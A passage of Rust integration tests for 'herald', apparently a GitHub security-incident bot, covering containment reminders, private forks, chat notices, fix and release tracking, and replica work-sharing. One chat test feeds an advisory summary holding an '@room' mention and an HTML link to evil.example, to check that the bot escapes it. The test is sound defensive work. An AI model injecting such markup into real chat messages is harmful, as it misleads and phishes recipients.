
/// [`world_with_mail`] after GitHub reported the example (`report-1`).
async fn reported_with_mail(fake: &FakeGitHub, config: &str) -> MailWorld {
    let world = world_with_mail(fake, config).await;
    report(&world.harness, "report-1").await;
    world
}

/// Security leads to inform of temporary actions.
const NOTIFY: &str = "tracking:\n  repository: Codertocat/security\nnotify: [\"@Codertocat/leads\", \"@em-lead\", leads@example.org]\n";

both_stores!(temporary_actions_inform_the_leads_once_and_are_reminded_daily_until_settled);
async fn temporary_actions_inform_the_leads_once_and_are_reminded_daily_until_settled() {
    let fake = world().await;
    let MailWorld {
        mut harness,
        sink,
        gpg,
        _key_dir: _keys,
        ..
    } = reported_with_mail(&fake, NOTIFY).await;
    fake.set_permission(REPO, "alice", "write");
    command(
        &harness,
        "c-1",
        "alice",
        "/herald threat active\n/herald contain disabled uploads",
    )
    .await;
    let reply = answers(&fake)
        .into_iter()
        .map(|comment| comment.body)
        .find(|body| body.starts_with("@alice "))
        .expect("herald answers");
    assert!(
        reply.contains("Temporary action 1 recorded")
            && reply.contains("herald informs the security leads now"),
        "{reply}"
    );
    let informed = escalations(&fake, "took temporary action 1");
    assert_eq!(informed.len(), 1, "{informed:?}");
    assert!(
        informed[0].starts_with("@Codertocat/leads @em-lead alice took temporary action 1 on GHSA-abcd-1234-efgh under an active threat"),
        "{}",
        informed[0]
    );
    assert!(
        informed[0].contains(": disabled uploads"),
        "{}",
        informed[0]
    );
    let messages = sink.messages();
    assert_eq!(messages.len(), 1, "the leads' address is mailed once");
    let received = Received::parse(&messages[0]);
    assert_eq!(received.header("To").as_deref(), Some("leads@example.org"));
    gpg.verify_cleartext(&decode_body(&received))
        .expect("the notice is signed");
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        body.contains("1. disabled uploads (alice, ")
            && body
                .contains("active threat): **temporary**: `/herald revert 1` or `/herald keep 1`"),
        "{body}"
    );
    assert_eq!(the_incident(&harness).await.phase.as_str(), "containment");

    // One reminder a day, also across a restart, until the action is settled.
    let reminders: Vec<String> = harness
        .pending_reminders()
        .await
        .into_iter()
        .filter(|(key, due_in)| key.ends_with(":1:day-1") && (86_000..=86_400).contains(due_in))
        .map(|(key, _)| key)
        .collect();
    assert_eq!(
        reminders.len(),
        1,
        "{:?}",
        harness.pending_reminders().await
    );
    harness.bring_forward("day-1").await;
    harness.restart(true).await;
    harness.bring_forward("day-2").await;
    let reminded = escalations(&fake, "is still temporary");
    assert_eq!(reminded.len(), 2, "{reminded:?}");
    assert!(
        reminded[0].starts_with("@alice Temporary action 1 on GHSA-abcd-1234-efgh (alice took it 1 day(s) ago) is still temporary: disabled uploads"),
        "{}",
        reminded[0]
    );
    command(&harness, "c-2", "alice", "/herald keep 1").await;
    harness.bring_forward("day-3").await;
    assert_eq!(escalations(&fake, "is still temporary").len(), 2);
    assert!(
        harness
            .pending_reminders()
            .await
            .iter()
            .all(|(key, _)| !key.contains(":day-")),
        "no reminder after the action is settled"
    );
    assert!(
        fake.issues(TRACKING_REPO)[0]
            .body
            .contains("1. disabled uploads (alice, "),
    );
    assert!(
        fake.issues(TRACKING_REPO)[0]
            .body
            .contains("made permanent, alice agreed"),
    );

    // A passive threat: recorded, with the plan's advice; nobody is informed.
    command(
        &harness,
        "c-3",
        "alice",
        "/herald threat passive\n/herald contain blocked the crawler's IPs",
    )
    .await;
    let advice = escalations(&fake, "Temporary action 2 recorded");
    assert_eq!(advice.len(), 1);
    assert!(
        advice[0].contains("record who was consulted with `/herald consulted @login`"),
        "{}",
        advice[0]
    );
    assert!(escalations(&fake, "took temporary action 2").is_empty());
    assert_eq!(sink.messages().len(), 1);
    // Once a lead was consulted, the plan is followed: no advice.
    command(
        &harness,
        "c-5",
        "alice",
        "/herald consulted @em-lead\n/herald contain rate-limited the API\n/herald affected self-hosted instances before 1.0.1",
    )
    .await;
    let reply = escalations(&fake, "Temporary action 3 recorded");
    assert_eq!(reply.len(), 1);
    assert!(!reply[0].contains("consulted with"), "{}", reply[0]);
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        body.contains("| Affected | self-hosted instances before 1.0.1 (as alice said, ")
            && body.contains("| Consulted | em-lead (recorded by alice, "),
        "{body}"
    );

    // Without write permission nothing is recorded.
    fake.set_permission(REPO, "mallory", "read");
    command(&harness, "c-4", "mallory", "/herald revert 2").await;
    let incident = the_incident(&harness).await;
    assert_eq!(incident.decisions.actions.len(), 3);
    assert!(incident.decisions.actions[1].is_open());
    let timeline = timeline_details(&harness).await;
    assert!(
        timeline.contains(
            &"temporary action 1: informed @Codertocat/leads, @em-lead, leads@example.org"
                .to_owned()
        ),
        "{timeline:?}"
    );
    assert!(
        timeline.contains(&"temporary action 1 still open on day 2: reminded".to_owned()),
        "{timeline:?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_private_fork_is_asked_for_once_and_linked_once_github_has_made_it);
async fn a_private_fork_is_asked_for_once_and_linked_once_github_has_made_it() {
    let fake = world().await;
    // GitHub answers 404 for the new fork once before it exists.
    fake.set_fork_delay(1);
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "admin");
    command(&harness, "c-1", "alice", "/herald fork").await;
    let fork_requests = || {
        fake.requests()
            .iter()
            .filter(|request| {
                request.method == "POST"
                    && request.path == format!("/repos/{REPO}/security-advisories/{GHSA}/forks")
            })
            .count()
    };
    assert_eq!(fork_requests(), 1);
    let fork = "Codertocat/Hello-World-ghsa-abcd-1234-efgh";
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        body.contains(&format!(
            "| Private fork | [{fork}](https://github.com/{fork}): GitHub is creating it |"
        )),
        "{body}"
    );
    // Not there on the first look; there on the second.
    harness.bring_forward("check").await;
    assert!(escalations(&fake, "temporary private fork is ready").is_empty());
    harness.bring_forward("check").await;
    let ready = escalations(&fake, "The temporary private fork is ready");
    assert_eq!(ready.len(), 1, "{ready:?}");
    assert!(
        ready[0].contains(&format!("https://github.com/{fork}")),
        "{}",
        ready[0]
    );
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        body.contains(&format!(
            "| Private fork | [{fork}](https://github.com/{fork}): fix here, in private |"
        )),
        "{body}"
    );
    assert!(
        harness
            .pending_reminders()
            .await
            .iter()
            .all(|(key, _)| !key.contains(":check:")),
        "no more looks once it exists"
    );
    // Asking again changes nothing at GitHub.
    command(&harness, "c-2", "alice", "/herald fork").await;
    assert_eq!(fork_requests(), 1);
    let timeline = timeline_details(&harness).await;
    assert!(
        timeline.contains(&format!("temporary private fork {fork} is ready")),
        "{timeline:?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// herald with a chat webhook (at the fake `chat`, in `format`), tracking privately and
/// escalating critical incidents to alice; `chat_config` is the repository's `chat:`.
async fn with_chat(fake: &FakeGitHub, chat: &FakeChat, format: &str, chat_config: &str) -> Harness {
    fake.put_file(
        REPO,
        ".github/herald.yml",
        &format!(
            "tracking:\n  repository: Codertocat/security\nescalation:\n  critical: [\"@alice\"]\nchannels:\n  chat:\n{chat_config}"
        ),
    );
    let url = format!("{}/{format}", chat.url);
    installed_with(fake, |settings| {
        settings.channels.chat_webhook_url = Some(SecretString::from(url));
    })
    .await
}

both_stores!(the_team_chat_hears_of_each_turn_of_an_incident_without_its_text);
async fn the_team_chat_hears_of_each_turn_of_an_incident_without_its_text() {
    let fake = world().await;
    let chat = FakeChat::start().await;
    let harness = with_chat(&fake, &chat, "slack", "    format: slack\n").await;
    report(&harness, "report-1").await;
    harness.bring_forward("warning").await;
    fake.set_permission(REPO, "alice", "write");
    command(&harness, "c-1", "alice", "/herald severity high").await;
    github_publishes(&harness).await;
    let texts: Vec<String> = chat
        .received("slack")
        .iter()
        .map(|payload| payload["text"].as_str().expect("text").to_owned())
        .collect();
    let link = "\n<https://github.com/Codertocat/security/issues/1|Private tracking issue>";
    assert_eq!(
        texts,
        [
            format!("herald: new incident: {GHSA} (critical severity, awareness) in {REPO}{link}"),
            format!(
                "herald: reaction due soon: {GHSA} (critical severity, awareness) in {REPO}{link}"
            ),
            format!(
                "herald: severity critical → high (set by a maintainer): {GHSA} (high severity, awareness) in {REPO}{link}"
            ),
            format!(
                "herald: advisory published, disclosure under way: {GHSA} (high severity, disclosure) in {REPO}{link}"
            ),
        ]
    );
    // Redeliveries and new revisions repeat nothing.
    publish_a_sharper_summary(&harness).await;
    assert_eq!(chat.received("slack").len(), 4);

    // An outage of the chat holds back nothing else, and the notice goes out later.
    chat.set_down(true);
    let answer = harness
        .deliver(
            "issue_comment",
            "c-2",
            &comment("alice", "/herald severity critical"),
        )
        .await;
    assert_eq!(answer.status, 202);
    harness
        .until("the tracking issue moves on, the chat fails", async || {
            fake.issues(TRACKING_REPO)[0].body.contains("**critical**") && chat.failed() >= 1
        })
        .await;
    chat.set_down(false);
    let retried = "UPDATE outbox SET run_after = 0 WHERE kind = 'chat' AND state = 'pending'";
    sqlx::query(retried)
        .execute(&common::any_pool(&harness.database_url).await)
        .await
        .expect("retry now");
    harness
        .until("the retried notice", async || {
            chat.received("slack").len() == 5
        })
        .await;
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(chat_notices_quote_the_summary_only_when_asked_and_as_inert_text);
async fn chat_notices_quote_the_summary_only_when_asked_and_as_inert_text() {
    let fake = world().await;
    let chat = FakeChat::start().await;
    let harness = with_chat(
        &fake,
        &chat,
        "matrix",
        "    format: matrix\n    include_summary: true\n",
    )
    .await;
    let mut payload: serde_json::Value =
        serde_json::from_slice(&advisory("repository_advisory.reported.composed.json"))
            .expect("JSON");
    payload["repository_advisory"]["summary"] =
        "@room <a href=\"https://evil.example\">click</a> & more".into();
    say(
        &harness,
        "repository_advisory",
        "report-1",
        &serde_json::to_vec(&payload).expect("JSON"),
    )
    .await;
    let received = chat.received("matrix");
    assert_eq!(received.len(), 1, "{received:?}");
    let html = received[0]["html"].as_str().expect("html");
    assert!(
        html.contains("<blockquote>@\u{200b}room &lt;a href=&quot;https://evil.example&quot;&gt;click&lt;/a&gt; &amp; more</blockquote>"),
        "{html}"
    );
    assert!(
        html.ends_with(
            "<a href=\"https://github.com/Codertocat/security/issues/1\">Private tracking issue</a>"
        ),
        "{html}"
    );
    let text = received[0]["text"].as_str().expect("text");
    assert!(text.contains("\n@\u{200b}room <a href"), "{text}");
    harness.stop().await;
}

both_stores!(discord_notices_allow_no_mention_and_a_refusal_is_reported_not_retried);
async fn discord_notices_allow_no_mention_and_a_refusal_is_reported_not_retried() {
    let fake = world().await;
    let chat = FakeChat::start().await;
    // The URL points at a webhook the chat does not have: it answers 404.
    let harness = with_chat(&fake, &chat, "discord", "    format: discord\n").await;
    report(&harness, "report-1").await;
    let received = chat.received("discord");
    assert_eq!(received.len(), 1);
    assert_eq!(
        received[0]["allowed_mentions"],
        serde_json::json!({ "parse": [] })
    );
    assert!(
        received[0]["content"]
            .as_str()
            .expect("content")
            .starts_with(&format!("herald: new incident: {GHSA}")),
        "{received:?}"
    );
    harness.stop().await;

    let fake = world().await;
    let harness = with_chat(&fake, &chat, "telegram", "    format: slack\n").await;
    report(&harness, "report-1").await;
    let refused = escalations(&fake, "chat for GHSA-abcd-1234-efgh was refused");
    assert_eq!(refused.len(), 1, "{:?}", fake.comments(TRACKING_REPO, 1));
    assert!(
        refused[0].contains("404") && !refused[0].contains(&chat.url),
        "the chat's words, never its URL: {}",
        refused[0]
    );
    harness.stop().await;
}

/// A `pull_request` webhook for pull request `number` of `repository`.
fn pull_event(repository: &str, number: u64, edit: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut payload: serde_json::Value =
        serde_json::from_slice(&fixture("pull_request.closed.0.json")).expect("JSON");
    payload["installation"] = serde_json::json!({ "id": INSTALLATION });
    payload["repository"]["full_name"] = repository.into();
    payload["repository"]["default_branch"] = "main".into();
    payload["number"] = number.into();
    let pull = &mut payload["pull_request"];
    pull["number"] = number.into();
    pull["html_url"] = format!("https://github.com/{repository}/pull/{number}").into();
    pull["head"]["ref"] = format!("fix-{number}").into();
    pull["title"] = "Tighten input checks".into();
    pull["body"] = serde_json::Value::Null;
    edit(&mut payload);
    serde_json::to_vec(&payload).expect("JSON")
}

/// The pull request's `state` and whether it is `merged`, into `base`.
fn pull_is(payload: &mut serde_json::Value, action: &str, base: &str, merged: bool) {
    payload["action"] = action.into();
    payload["pull_request"]["base"]["ref"] = base.into();
    payload["pull_request"]["state"] = if action == "closed" { "closed" } else { "open" }.into();
    payload["pull_request"]["merged"] = merged.into();
}

both_stores!(fixes_and_a_patch_release_tick_the_checklist_and_reach_the_announcement);
async fn fixes_and_a_patch_release_tick_the_checklist_and_reach_the_announcement() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "write");
    // A maintainer ticks an item herald does not know about.
    let body = fake.issues(TRACKING_REPO)[0].body.clone();
    let ticked = "- [x] Notify the maintainers and admins who must know";
    fake.edit_issue_body(
        TRACKING_REPO,
        1,
        &body.replace(
            "- [ ] Notify the maintainers and admins who must know",
            ticked,
        ),
    );
    let issue = || fake.issues(TRACKING_REPO)[0].body.clone();

    // A pull request that mentions the advisory is tracked; its merge ticks "Fix and test".
    let fix = |action: &str, merged: bool| {
        pull_event(REPO, 5, |payload| {
            pull_is(payload, action, "main", merged);
            payload["pull_request"]["body"] = format!("Fixes {GHSA}.").into();
        })
    };
    say(&harness, "pull_request", "pr-1", &fix("opened", false)).await;
    assert!(
        issue().contains(&format!(
            "- Fix [{REPO}#5](https://github.com/{REPO}/pull/5) into `main`: open"
        )),
        "{}",
        issue()
    );
    assert!(issue().contains("- [ ] Fix and test"));
    say(&harness, "pull_request", "pr-2", &fix("closed", true)).await;
    assert!(issue().contains("- [x] Fix and test"), "{}", issue());
    assert!(issue().contains(ticked), "the maintainers' tick stays");
    assert!(issue().contains("- [ ] Backport the fix to supported versions"));

    // A pull request in the advisory's temporary private fork is a fix even unmentioned;
    // into another branch than the default it is a backport.
    let fork = "Codertocat/Hello-World-ghsa-abcd-1234-efgh";
    let backport = pull_event(fork, 2, |payload| {
        pull_is(payload, "closed", "release-1.x", true)
    });
    say(&harness, "pull_request", "pr-3", &backport).await;
    assert!(
        issue().contains(&format!(
            "- Backport [{fork}#2](https://github.com/{fork}/pull/2) into `release-1.x`: merged"
        )),
        "{}",
        issue()
    );
    assert!(issue().contains("- [x] Backport the fix to supported versions"));

    // A maintainer links a pull request that names no advisory; its merge counts later.
    let number = fake.open_pull(REPO, "harden", "main", "Harden the parser");
    command(&harness, "c-1", "alice", &format!("/herald fix #{number}")).await;
    assert!(
        issue().contains(&format!("[{REPO}#{number}](https://github.com/{REPO}/pull/{number}) into `main`: open (linked by alice)")),
        "{}",
        issue()
    );
    let merged = pull_event(REPO, number, |payload| {
        pull_is(payload, "closed", "main", true)
    });
    say(&harness, "pull_request", "pr-4", &merged).await;
    assert!(
        issue().contains("`main`: merged (linked by alice)"),
        "{}",
        issue()
    );
    // herald's own pull requests (its App's, from a branch of this repository) are not
    // fixes; nor is an unrelated one.
    let own = pull_event(REPO, 9, |payload| {
        payload["pull_request"]["head"]["ref"] = format!("herald/security/{GHSA}").into();
        payload["pull_request"]["user"]["login"] = "herald-test[bot]".into();
        payload["pull_request"]["user"]["type"] = "Bot".into();
        payload["pull_request"]["body"] = format!("Adds the security entry for {GHSA}").into();
    });
    say(&harness, "pull_request", "pr-5", &own).await;
    say(
        &harness,
        "pull_request",
        "pr-6",
        &pull_event(REPO, 10, |_| {}),
    )
    .await;
    assert!(!issue().contains(&format!("{REPO}#9")) && !issue().contains(&format!("{REPO}#10")));
    // Another App's bot on a `herald/` branch is not herald: its pull request is a fix.
    let other_app = pull_event(REPO, 11, |payload| {
        payload["pull_request"]["head"]["ref"] = "herald/security/fix".into();
        payload["pull_request"]["user"]["login"] = "github-actions[bot]".into();
        payload["pull_request"]["user"]["type"] = "Bot".into();
        payload["pull_request"]["body"] = format!("Fixes {GHSA}").into();
    });
    say(&harness, "pull_request", "pr-7", &other_app).await;
    assert!(issue().contains(&format!("{REPO}#11")), "{}", issue());

    // Releases: a prerelease and an unrelated tag change nothing; the patched version does.
    let release = |tag: &str, prerelease: bool| {
        let mut payload: serde_json::Value =
            serde_json::from_slice(&fixture("release.published.composed.json")).expect("JSON");
        payload["installation"] = serde_json::json!({ "id": INSTALLATION });
        payload["release"]["tag_name"] = tag.into();
        payload["release"]["prerelease"] = prerelease.into();
        payload["release"]["html_url"] =
            format!("https://github.com/{REPO}/releases/tag/{tag}").into();
        serde_json::to_vec(&payload).expect("JSON")
    };
    say(&harness, "release", "r-1", &release("v1.0.1-rc1", true)).await;
    say(&harness, "release", "r-2", &release("v0.9.9", false)).await;
    assert!(issue().contains("- [ ] Publish a patch release"));
    say(&harness, "release", "r-3", &release("v1.0.1", false)).await;
    assert!(
        issue().contains("- [x] Publish a patch release"),
        "{}",
        issue()
    );
    assert!(
        issue().contains(&format!(
            "- Release [v1.0.1](https://github.com/{REPO}/releases/tag/v1.0.1)"
        )),
        "{}",
        issue()
    );
    let drafts = drafts_comments(&fake);
    assert!(
        drafts
            .last()
            .expect("drafts comment")
            .body
            .contains(&format!(
                "The fix is released in v1.0.1: https://github.com/{REPO}/releases/tag/v1.0.1"
            )),
        "the announcement offers the release"
    );
    let timeline = timeline_details(&harness).await;
    assert!(
        timeline.contains(&"patch release v1.0.1 published".to_owned()),
        "{timeline:?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// The replicas' write budget for their one installation: 100 a second, shared.
const REPLICAS_WRITE_BUDGET: &str = "100/1";

/// One `herald serve` replica, a child process.
pub(crate) struct Replica {
    pub(crate) port: u16,
    pub(crate) child: std::process::Child,
}

impl Replica {
    /// A replica on `database` and the fake GitHub, listening on `port`.
    fn start(fake: &FakeGitHub, database: &str, port: u16, log: &std::path::Path) -> Replica {
        Replica::start_as(fake, database, port, log, |_| {})
    }

    /// [`Replica::start`], its environment changed by `adjust` first.
    pub(crate) fn start_as(
        fake: &FakeGitHub,
        database: &str,
        port: u16,
        log: &std::path::Path,
        adjust: impl FnOnce(&mut std::process::Command),
    ) -> Replica {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_herald"));
        adjust(&mut command);
        let child = command
            .arg("serve")
            .env("HERALD_DATABASE_URL", database)
            .env("HERALD_LISTEN", format!("127.0.0.1:{port}"))
            .env("HERALD_WEBHOOK_SECRET", common::SECRET)
            .env("HERALD_GITHUB_API_URL", &fake.url)
            .env("HERALD_GITHUB_APP_ID", APP_ID.to_string())
            .env("HERALD_GITHUB_PRIVATE_KEY", private_key())
            .env("HERALD_POLL_INTERVAL_SECS", "3600")
            // One budget for the three, small enough that they must share it.
            .env("HERALD_GITHUB_WRITE_INTERVAL_MS", "0")
            .env("HERALD_GITHUB_WRITE_BUDGETS", REPLICAS_WRITE_BUDGET)
            .env("HERALD_WORKER_POLL_INTERVAL_MS", "50")
            .env("HERALD_LOG", "warn")
            .stdout(std::process::Stdio::null())
            .stderr(std::fs::File::create(log).expect("log file"))
            .spawn()
            .expect("herald serve starts");
        Replica { port, child }
    }

    fn kill(&mut self) {
        // SIGKILL: no shutdown, leases held, answers lost.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Posts a signed delivery to the replica on `port`; its status, `None` when the replica
/// is not there.
pub(crate) async fn post_to(port: u16, event: &str, delivery_id: &str, body: &[u8]) -> Option<u16> {
    common::http_client()
        .post(format!("http://127.0.0.1:{port}/webhooks"))
        .header("X-GitHub-Event", event)
        .header("X-GitHub-Delivery", delivery_id)
        .header("Content-Type", "application/json")
        .header(
            "X-Hub-Signature-256",
            herald::ingest::signature::sign(&SecretString::from(common::SECRET), body),
        )
        .body(body.to_vec())
        .send()
        .await
        .ok()
        .map(|response| response.status().as_u16())
}

/// Three replicas on one PostgreSQL: 200 reports round-robin, each redelivered to another
/// replica, one replica killed half-way (its leases left behind) and restarted. Each
/// advisory gets exactly one incident and one tracking issue, every job is done once, and
/// the reconciler polls the repository once between the three.
#[tokio::test]
async fn three_replicas_on_postgresql_share_the_work_and_survive_a_killed_one() {
    const ADVISORIES: usize = 200;
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let database = common::postgres_database().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let free_port = || {
        std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|listener| listener.local_addr())
            .expect("free port")
            .port()
    };
    let mut replicas: Vec<Replica> = (0..3)
        .map(|index| {
            Replica::start(
                &fake,
                &database,
                free_port(),
                &dir.path().join(format!("replica-{index}.log")),
            )
        })
        .collect();
    for replica in &replicas {
        let mut up = false;
        for _ in 0..200 {
            if post_to(replica.port, "ping", "ping", &fixture("ping.0.json")).await == Some(200) {
                up = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert!(up, "replica on port {} did not come up", replica.port);
    }
    let store = herald::store::Store::open(&database).await.expect("store");
    let pool = common::any_pool(&database).await;
    let count = |sql: &'static str| {
        let pool = pool.clone();
        async move {
            sqlx::query_scalar::<_, i64>(sql)
                .fetch_one(&pool)
                .await
                .unwrap_or_else(|error| panic!("{sql}: {error}"))
        }
    };
    let ports: Vec<u16> = replicas.iter().map(|replica| replica.port).collect();
    assert_eq!(
        post_to(
            ports[0],
            "installation",
            "install-1",
            &fixture("installation.created.0.json")
        )
        .await,
        Some(202)
    );
    // Where a delivery goes: the replica it was meant for, else (down) the next one, as
    // GitHub's redelivery would reach another replica behind the load balancer.
    let deliver = |start: usize, id: String, body: Vec<u8>| {
        let ports = ports.clone();
        async move {
            for offset in 0..3 {
                if let Some(status) = post_to(
                    ports[(start + offset) % 3],
                    "repository_advisory",
                    &id,
                    &body,
                )
                .await
                {
                    return status;
                }
            }
            panic!("no replica answered {id}");
        }
    };
    for number in 0..ADVISORIES {
        if number == ADVISORIES / 2 {
            replicas[2].kill();
        }
        if number == ADVISORIES / 2 + 20 {
            let log = dir.path().join("replica-2-again.log");
            replicas[2] = Replica::start(&fake, &database, ports[2], &log);
        }
        let id = format!("report-{number}");
        let first = deliver(number % 3, id.clone(), numbered_report(number)).await;
        assert_eq!(first, 202, "{id}");
        let again = deliver((number + 1) % 3, id.clone(), numbered_report(number)).await;
        assert_eq!(again, 200, "{id} redelivered is a duplicate");
    }
    // Once the live replicas have nothing left to pick up, the jobs still leased are the
    // killed replica's (a live one finishes a job in milliseconds and renews its lease
    // while it runs). Their leases end, as after their minute, and the others take over.
    let unleased = "SELECT COUNT(*) FROM outbox WHERE state = 'pending' AND kind <> 'escalate' \
                    AND locked_until IS NULL AND run_after <= $1";
    let mut quiet_checks = 0;
    for _ in 0..600 {
        let waiting: i64 = sqlx::query_scalar(unleased)
            .bind(chrono::Utc::now().timestamp_millis())
            .fetch_one(&pool)
            .await
            .expect("unleased jobs");
        if waiting == 0 {
            quiet_checks += 1;
            if quiet_checks == 10 {
                break;
            }
        } else {
            quiet_checks = 0;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    sqlx::query(
        "UPDATE outbox SET locked_until = 0 WHERE state = 'pending' AND locked_until IS NOT NULL",
    )
    .execute(&pool)
    .await
    .expect("leases end");
    let mut settled = false;
    for _ in 0..600 {
        let pending =
            count("SELECT COUNT(*) FROM outbox WHERE state <> 'done' AND NOT (kind = 'escalate')")
                .await;
        if pending == 0 {
            settled = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let stuck: Vec<(String, String, Option<String>)> = sqlx::query_as(
        "SELECT kind, state, last_error FROM outbox WHERE state <> 'done' AND kind <> 'escalate'",
    )
    .fetch_all(&pool)
    .await
    .expect("stuck jobs");
    assert!(settled, "jobs left: {stuck:?}");
    assert_eq!(
        count("SELECT COUNT(*) FROM incidents").await,
        ADVISORIES as i64,
        "one incident per advisory"
    );
    assert_eq!(
        count("SELECT COUNT(*) FROM deliveries WHERE delivery_id LIKE 'report-%'").await,
        ADVISORIES as i64
    );
    // The three kept within one budget (measured over 0.9 s: a request may arrive up to a
    // tenth of the window after its slot on this loaded machine, and the pacer allows for it).
    let most = fake.most_writes_within(Duration::from_millis(900));
    assert!(
        most <= 100,
        "{most} writes within 0.9 s, over the shared budget of 100 a second"
    );
    let issues = fake.issues(TRACKING_REPO);
    assert_eq!(issues.len(), ADVISORIES, "one tracking issue per advisory");
    let mut titles: Vec<&str> = issues.iter().map(|issue| issue.title.as_str()).collect();
    titles.sort_unstable();
    titles.dedup();
    assert_eq!(titles.len(), ADVISORIES, "no advisory has two");
    assert_eq!(
        fake.count("GET", &format!("/repos/{REPO}/security-advisories")),
        1,
        "the reconciler polled the repository once between the replicas"
    );
    assert_no_unexpected(&fake);
    store.close().await;
    for replica in &mut replicas {
        replica.kill();
    }
}

/// "METHOD /path" of the requests from the `from`-th on.
/// The requests since `from`, but for the one `GET /app` herald makes at start (to learn
/// its bot login), which may land at any moment.
fn requests_since(fake: &FakeGitHub, from: usize) -> Vec<String> {
    fake.requests()[from..]
        .iter()
        .map(|request| format!("{} {}", request.method, request.path))
        .filter(|request| request != "GET /app")
        .collect()
}

both_stores!(a_new_incident_and_its_publication_cost_few_github_requests);
async fn a_new_incident_and_its_publication_cost_few_github_requests() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    fake.put_file(REPO, "CHANGELOG.md", CHANGELOG);
    let harness = installed(&fake).await;

    let start = fake.requests().len();
    report(&harness, "report-1").await;
    let reported = requests_since(&fake, start);
    // A token, the organisation's policy and the repository's configuration, the tracking
    // repository's visibility, the template folder, the issue and its drafts comment: no
    // search for an issue that cannot exist yet, no listing of a fresh issue's comments.
    assert!(reported.len() <= 7, "{reported:#?}");
    assert!(
        !reported.iter().any(|request| request.ends_with("/comments")
            && request.starts_with("GET")
            || request.ends_with(&format!("/repos/{TRACKING_REPO}/issues"))
                && request.starts_with("GET")),
        "{reported:#?}"
    );

    let start = fake.requests().len();
    github_publishes(&harness).await;
    let published = requests_since(&fake, start);
    assert!(
        published.len() <= 26,
        "{} requests: {published:#?}",
        published.len()
    );
    let config_reads = published
        .iter()
        .filter(|request| request.ends_with(".github/herald.yml"))
        .count();
    assert!(config_reads <= 4, "{published:#?}");
    let pull_lookups = published
        .iter()
        .filter(|request| request.starts_with("GET") && request.ends_with("/pulls"))
        .count();
    assert_eq!(
        pull_lookups, 0,
        "herald knows its own pull request: {published:#?}"
    );
    // The configuration's re-reads were conditional: GitHub answered 304 (no rate limit).
    let config_answers: Vec<u16> = fake.requests()[start..]
        .iter()
        .filter(|request| request.path == format!("/repos/{REPO}/contents/.github/herald.yml"))
        .map(|request| request.status)
        .collect();
    assert!(
        config_answers.iter().all(|status| *status == 304),
        "{config_answers:?}"
    );

    // Once the channels are done, the tracking issue links what they published.
    let tracking = &fake.issues(TRACKING_REPO)[0];
    let pull = &fake.pulls(REPO)[0];
    let advisory_issue = &fake.issues(REPO)[0];
    assert!(
        tracking.body.contains(&format!("/pull/{}", pull.number)),
        "{}",
        tracking.body
    );
    assert!(
        tracking
            .body
            .contains(&format!("{REPO}/issues/{}", advisory_issue.number)),
        "{}",
        tracking.body
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// Write budgets small enough to matter within a test: 20 a second and 60 in four.
const TIGHT_WRITE_BUDGETS: &str = "20/1,60/4";

both_stores!(a_first_install_backfill_keeps_within_the_write_budgets_and_a_fresh_report_goes_first);
async fn a_first_install_backfill_keeps_within_the_write_budgets_and_a_fresh_report_goes_first() {
    const DRAFTS: usize = 500;
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let mut template: serde_json::Value =
        serde_json::from_slice(&fixture("repository_advisory.reported.composed.json"))
            .expect("JSON");
    let template = template["repository_advisory"].take();
    for index in 0..DRAFTS {
        let mut draft = template.clone();
        draft["ghsa_id"] = format!("GHSA-fill-{index:04}-xxxx").into();
        draft["state"] = "draft".into();
        draft["updated_at"] = format!("2026-01-01T{:02}:{:02}:00Z", index / 60, index % 60).into();
        fake.put_advisory(REPO, draft);
    }
    let tight = |github: &mut GitHubSettings| {
        github.pacing = herald::config::Pacing {
            spacing: Duration::ZERO,
            budgets: herald::config::Pacing::parse_budgets(TIGHT_WRITE_BUDGETS).expect("budgets"),
        };
    };
    let harness = polling_with(&fake, tight, &fixture("installation.created.0.json")).await;
    let tracking_issues = |fake: &FakeGitHub| fake.issues(TRACKING_REPO);
    harness
        .until("the back-fill to start", async || {
            tracking_issues(&fake).len() >= 10
        })
        .await;

    // A maintainer reports a vulnerability while hundreds of drafts wait their turn.
    let answer = harness
        .deliver(
            "repository_advisory",
            "fresh-report",
            &advisory("repository_advisory.reported.composed.json"),
        )
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    harness
        .until("the fresh report's tracking issue", async || {
            tracking_issues(&fake)
                .iter()
                .any(|issue| issue.title.contains(GHSA))
        })
        .await;
    let backfilled = tracking_issues(&fake).len() - 1;
    assert!(
        backfilled < DRAFTS / 2,
        "the fresh report waited for {backfilled} back-filled issues"
    );
    // The fresh report went first, and the back-fill goes on after it.
    let writes = |fake: &FakeGitHub| {
        fake.requests()
            .iter()
            .filter(|request| request.method != "GET")
            .count()
    };
    harness
        .until("the back-fill to go on", async || writes(&fake) > 40)
        .await;

    // Never over a budget (measured over 80% of each window: a request may arrive after its
    // slot, by more than the tenth of a window the pacer leaves for that when the test
    // machine is loaded; unpaced, these writes would come dozens at a time), and GitHub
    // never had to refuse.
    for (count, window) in [
        (20, Duration::from_millis(800)),
        (60, Duration::from_millis(3200)),
    ] {
        let most = fake.most_writes_within(window);
        assert!(most <= count, "{most} writes within {window:?}");
    }
